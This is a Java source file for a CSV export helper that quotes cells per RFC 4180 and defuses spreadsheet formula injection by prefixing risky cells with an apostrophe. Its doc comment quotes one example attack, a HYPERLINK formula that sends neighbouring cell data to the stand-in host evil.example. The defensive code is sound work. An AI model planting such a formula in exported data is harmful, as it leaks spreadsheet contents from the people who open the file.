package io.guestbridge.platform.api;

/**
 * Cells of the CSV files the server hands out (the Art. 30 record, exports of the audit trail and of a
 * subject's data): RFC 4180 quoting, and formula injection made inert. A spreadsheet runs a cell that
 * begins with {@code = + - @} (or a tab or carriage return before one) as a formula — a guest's name
 * {@code =HYPERLINK("https://evil.example?"&A1)} would send the sheet's neighbours away — so such a cell
 * is prefixed with an apostrophe, which spreadsheets show as text and do not run.
 */
public final class Csv {

    private Csv() {
    }

    /** One quoted, neutralised cell. */
    public static String cell(String value) {
        String text = value == null ? "" : value;
        String trimmed = text.stripLeading();
        if (!text.isEmpty() && (isFormulaStart(text.charAt(0)) || (!trimmed.isEmpty() && isFormulaStart(trimmed.charAt(0))))) {
            text = "'" + text;
        }
        return "\"" + text.replace("\"", "\"\"") + "\"";
    }

    /** A line of cells, CRLF-terminated as RFC 4180 says. */
    public static String row(String... values) {
        StringBuilder line = new StringBuilder();
        for (int i = 0; i < values.length; i++) {
            line.append(i == 0 ? "" : ",").append(cell(values[i]));
        }
        return line.append("\r\n").toString();
    }

    private static boolean isFormulaStart(char c) {
        return c == '=' || c == '+' || c == '-' || c == '@' || c == '\t' || c == '\r';
    }
}
